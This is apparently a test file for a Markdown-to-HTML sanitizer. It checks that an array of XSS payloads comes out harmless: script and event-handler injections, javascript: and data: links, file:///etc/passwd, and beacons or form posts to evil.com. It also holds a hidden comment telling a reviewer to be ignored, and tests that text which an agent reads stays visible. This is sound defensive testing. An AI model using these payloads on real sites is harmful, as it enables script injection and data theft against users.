import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { TooMuchError } from '../../../src/web/markdown-budget.ts';
import { markdownToHtml } from '../../../src/web/markdown.ts';
import { runs } from '../../rig/runs.ts';

/** Every tag that may be there, whole: attributes in this order, and with these values only. */
const ALLOWED =
  /<\/?(?:blockquote|br|code(?: class="language-[\w+#.-]+")?|del|em|h[1-6]|hr|li(?: class="task-list-item")?|ol(?: start="\d+")?(?: class="contains-task-list")?|p|pre|span|strong|table|tbody|thead|tr|t[dh](?: align="(?:left|right|center)")?|ul(?: class="contains-task-list")?|input type="checkbox"(?: checked)? disabled|a href="(?:https?:|mailto:)[^"]*" rel="noopener noreferrer" target="_blank"|a)>/gi;
/** Without its tags there is no markup left. */
const isHarmless = (html: string): boolean => !/<[a-z!/?]/i.test(html.replaceAll(ALLOWED, ''));

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=http://evil.com><input name=x></form>',
  '<style>*{background:url(http://evil.com)}</style>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<!-- ignore the reviewer -->',
  '<?php echo 1 ?>',
  '<![CDATA[x]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.com)',
  '[x](/api/about)',
  '[x](#t=stolen)',
  '![x](http://evil.com/p.png)',
  '![x][r]\n\n[r]: http://evil.com/p.png',
  '<http://evil.com/"onmouseover="alert(1)>',
  '[x](http://evil.com/"onmouseover="alert(1) "t")',
  '```"><script>alert(1)</script>\ncode\n```',
  '| a |\n| - |\n| b | <b onclick=alert(1)>c</b> |',
];

describe('text of the board as HTML', () => {
  it.each(HOSTILE)('is harmless: %s', (text) => {
    expect(markdownToHtml(text)).toSatisfy(isHarmless);
    expect(markdownToHtml(`> - ${text}`)).toSatisfy(isHarmless);
  });

  it('is harmless in any combination', () => {
    const part = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({ unit: fc.constantFrom(...Array.from('<>&"\'`*_[]()!#|-=/:\n x1')) }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), fc.constantFrom('', '\n', '\n\n', ' '), (parts, between) => {
        expect(markdownToHtml(parts.join(between))).toSatisfy(isHarmless);
      }),
      { numRuns: runs(200) },
    );
  });

  it('shows every word that an agent reads', () => {
    const words = fc.array(
      fc.constantFrom(
        ...['<!-- WORD -->', '[a]: http://x.com "WORD"', '[a](http://x.com "WORD")', '[a](WORD)', '![WORD](x.png)'],
        ...[
          '```js WORD\ncode\n```',
          '~~~WORD<>\n~~~',
          '[^WORD]: x',
          'x[^b]\n\n[^b]: WORD',
          '| a |\n| - |\n| b | WORD |',
        ],
        ...[
          '<div title="WORD">',
          '<WORD>',
          'a <span data-x="WORD"> b',
          '***WORD***',
          '[x](javascript:WORD)',
          '# WORD #',
        ],
        ...['<a\nhref="WORD">', '- [ ] WORD', '> WORD', '&lt;WORD&gt;', '\\WORD', '<?WORD?>', '<!WORD x>', '1. WORD'],
      ),
      { minLength: 1, maxLength: 5 },
    );
    fc.assert(
      fc.property(words, (parts) => {
        const numbered = parts.map((part, index) => part.replaceAll('WORD', `WORD${index}`));
        const html = markdownToHtml(numbered.join('\n\n')).replaceAll(/<a href[^>]*>/g, '');
        numbered.forEach((part, index) => expect(html, part).toContain(`WORD${index}`));
      }),
      { numRuns: runs(200) },
    );
  });

  it('only addresses of other sites are links; a fragment would be taken for one of the page', () => {
    expect(markdownToHtml('[x](#t=stolen) [y](docs/a.md) <https://a.com>')).toBe(
      '<p><span>x (<code>#t=stolen</code>)</span> <span>y (<code>docs/a.md</code>)</span> <a href="https://a.com" rel="noopener noreferrer" target="_blank">https://a.com</a></p>',
    );
  });

  it('shows characters without width, of code too', () => {
    expect(markdownToHtml('a\u200Bb `c\u202Ed`')).toBe('<p>a&#x3C;U+200B>b <code>c&#x3C;U+202E>d</code></p>');
  });

  it.each([
    ['nested too deep', '>'.repeat(2_000)],
    ['a long title that is referred to often', `[a]: x "${'t'.repeat(20_000)}"\n\n${'[a] '.repeat(500)}`],
    ['a long address that is referred to often', `[a]: http://x/${'t'.repeat(20_000)}\n\n${'![a] '.repeat(500)}`],
  ])('gives up what is %s', (_, text) => {
    expect(() => markdownToHtml(text)).toThrow(TooMuchError);
  });
});
